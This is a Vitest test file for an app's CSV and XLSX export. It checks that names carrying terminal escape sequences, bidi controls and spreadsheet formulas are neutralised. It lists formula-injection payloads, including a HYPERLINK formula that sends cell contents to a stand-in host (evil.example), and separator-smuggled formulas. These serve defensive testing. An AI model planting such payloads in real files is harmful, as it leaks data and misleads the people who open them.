import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvText, exportMapping, FORMULA_START } from '../../../electron/core/files';
import { type CsvFormat, csvFormatFor } from '../../../shared/domain/locale';
import { item, readBack } from './helpers';

/**
 * Issue 34, item 6: what a spreadsheet receives is inert. Names typed by POS staff carry 8-bit
 * escape sequences (U+009B CSI, U+009D OSC) and bidi controls (U+202E shows "TAD" as "DAT"); none
 * may reach a CSV or XLSX cell. And the guard against a formula behind a separator is proven where
 * it matters: in a later column, where a reader splitting on another separator cuts through our
 * quotes (first in its row, the quote opens the field for every reader and hides the separator).
 */

const TR = csvFormatFor('tr');
const EN = csvFormatFor('en');
const TAB: CsvFormat = { delimiter: '\t', decimal: ',' };

/** A character a terminal or a spreadsheet acts on (tab and line ends aside), or a bidi control. */
const ACTIVE =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point.
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

const HOSTILE_NAMES = [
  'Kola\u009b31m',
  '\u009d2;title\u009cÇay',
  'Lahmacun\u202eTAD',
  '\u2066Pide\u2069\u200f',
  'Simit\u202a\u202d\u061c\u200e',
  '\u202e=HYPERLINK("http://evil.example/")',
];
const SHOWN = ['Kola', 'Çay', 'LahmacunTAD', 'Pide', 'Simit', `'=HYPERLINK("http://evil.example/")`];

function split(text: string, delimiter: string): string[][] {
  return Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), {
    delimiter,
    newline: '\r\n',
    skipEmptyLines: true,
  }).data;
}

describe('no control sequence or bidi control reaches a cell', () => {
  const items = HOSTILE_NAMES.map((name, i) => item(i + 1, `${100 + i}`, name, `C${i}`));

  it.each([EN, TR])('CSV (%j)', async (format) => {
    const bytes = await exportMapping(items, new Set(), 'csv', { csv: format });
    const rows = split(new TextDecoder().decode(bytes), format.delimiter);
    expect(rows.slice(1).map((r) => r[2])).toEqual(SHOWN);
    for (const cell of rows.flat()) expect(ACTIVE.test(cell), JSON.stringify(cell)).toBe(false);
  });

  it('XLSX', async () => {
    const sheet = (await readBack(await exportMapping(items, new Set(), 'xlsx'))).get('Mapping') ?? [];
    expect(sheet.slice(1).map((r) => r[2])).toEqual(SHOWN);
    for (const cell of sheet.flat()) {
      if (typeof cell === 'string') expect(ACTIVE.test(cell), JSON.stringify(cell)).toBe(false);
    }
  });
});

describe('a formula behind a separator, in a later column', () => {
  const hostile = [
    'Döner;=HYPERLINK("http://evil.example/?"&A1)',
    'Ayran,@SUM(A1:A9)',
    'Kola\t+1+2',
    'Su;-2+3',
    'Çay;"=1+1',
    'Tost,\u202e=1+1',
  ];

  it.each([EN, TR, TAB])('no reader, whatever it splits on, sees a formula start (%j)', (format) => {
    // Each hostile text behind an ordinary cell, in the second and in the third column.
    const rows = hostile.flatMap((h) => [
      ['Adana', h, 'x'],
      ['Adana', 'Dürüm', h],
    ]);
    const text = csvText([{ header: 'A' }, { header: 'B' }, { header: 'C' }], rows, format);
    for (const d of [',', ';', '\t']) {
      for (const cell of split(text, d).flat()) {
        expect(cell, `${JSON.stringify(cell)} split on ${JSON.stringify(d)}`).not.toMatch(FORMULA_START);
      }
    }
  });
});
